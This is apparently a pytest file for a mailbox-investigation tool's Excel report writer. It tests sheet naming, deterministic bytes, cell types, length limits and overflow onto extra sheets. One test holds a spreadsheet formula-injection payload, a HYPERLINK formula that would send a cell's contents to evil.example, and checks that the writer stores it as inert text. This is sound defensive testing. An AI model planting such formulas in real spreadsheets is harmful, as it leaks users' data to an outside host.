import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from brokenseal.reports import xlsx
from brokenseal.reports._columns import ReportTable, col
from brokenseal.wording import phrase
from reports.documents import HOSTILE, empty_document, hostile_document, rich_document


def book_of(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def rows_of(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_every_table_is_a_sheet_in_the_order_of_an_investigation():
    assert book_of(xlsx.render(rich_document(), "en")).sheetnames == [
        "Summary", "Cases", "Findings", "Evidence", "Exposure by mailbox", "All mail accesses", "Messages",
        "Messages perhaps read", "Folders", "Open-ended", "Coverage", "Coverage by mailbox", "Gaps", "Alarms", "Detectors", "Untraced tokens", "Inputs",
        "Quarantine", "Records",
    ]  # fmt: skip


@pytest.mark.parametrize("lang", ["en", "fr"])
@pytest.mark.parametrize("document", [rich_document(), empty_document(), hostile_document()])
def test_names_of_sheets_are_allowed_and_differ(document, lang):
    names = book_of(xlsx.render(document, lang)).sheetnames
    assert len({name.lower() for name in names}) == len(names) == 19
    assert all(0 < len(name) <= 31 and not set(name) & set("[]:*?/\\") for name in names)


def test_the_same_document_gives_the_same_bytes():
    assert xlsx.render(rich_document(), "en") == xlsx.render(rich_document(), "en")


def test_values_keep_their_types_and_headers_stay_in_view():
    sheet = book_of(xlsx.render(rich_document(), "en"))["Exposure by mailbox"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:K6"
    header, first, *_ = rows_of(sheet)
    assert header[:6] == [
        "Mailbox", "Case", "Certain: messages", "Possible: messages", "Possible: folders", "Unknowable: spans",
    ]  # fmt: skip
    assert first == [
        "anna.lindqvist@contoso.example",
        "case-000000005ea1",
        13,
        0,
        0,
        1,
        13,
        dt.datetime(2024, 5, 26, 2, 0, 7),  # noqa: DTZ001 - a worksheet knows no zones
        dt.datetime(2024, 5, 26, 8, 27, 7),  # noqa: DTZ001 - as above
        "Client=REST;Client=RESTSystem;;",
        "203.0.113.77",
    ]


def test_a_hostile_document_holds_no_formula_and_no_link():
    content = xlsx.render(hostile_document(), "en")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        sheets = b"".join(archive.read(name) for name in names if name.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets
    assert b"<hyperlink" not in sheets
    assert not [name for name in names if "rels" in name and "worksheets" in name]
    texts = [cell.value for sheet in book_of(content) for row in sheet.iter_rows() for cell in row]
    assert not [text for text in texts if isinstance(text, str) and text.startswith(("=", "+", "-", "@"))]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in texts
    assert "nul�byte" in texts


def test_a_long_text_is_cut_within_the_limit_of_a_cell():
    book = book_of(xlsx.render(hostile_document(), "en"))
    texts = [cell for row in rows_of(book["Messages"]) for cell in row if isinstance(cell, str)]
    longest = max(texts, key=len)
    assert len(longest) == 32_767
    assert longest.endswith("…[cut]")
    assert len(HOSTILE[-1]) == 45_000


@pytest.mark.parametrize(
    ("rows", "names"),
    [
        (0, ["Messages"]),
        (3, ["Messages"]),
        (4, ["Messages", "Messages (2)"]),
        (7, ["Messages", "Messages (2)", "Messages (3)"]),
    ],
)
def test_more_rows_than_a_sheet_holds_go_on_in_the_next(rows, names):
    table = ReportTable(
        name="messages",
        title=phrase("Messages"),
        columns=(col("n", phrase("Records"), "number"),),
        rows=tuple((number,) for number in range(rows)),
    )
    book = book_of(xlsx.workbook_bytes((table,), "en", row_limit=4))
    assert book.sheetnames == names
    assert [row[0] for sheet in book for row in rows_of(sheet)[1:]] == list(range(rows))


def test_a_time_before_excel_begins_is_written_as_text():
    table = ReportTable(
        name="t", title=phrase("Messages"), columns=(col("at", phrase("Record"), "time"),),
        rows=((dt.datetime(1601, 1, 1, tzinfo=dt.UTC),),),
    )  # fmt: skip
    assert rows_of(book_of(xlsx.workbook_bytes((table,), "en")).active)[1] == ["1601-01-01 00:00:00"]
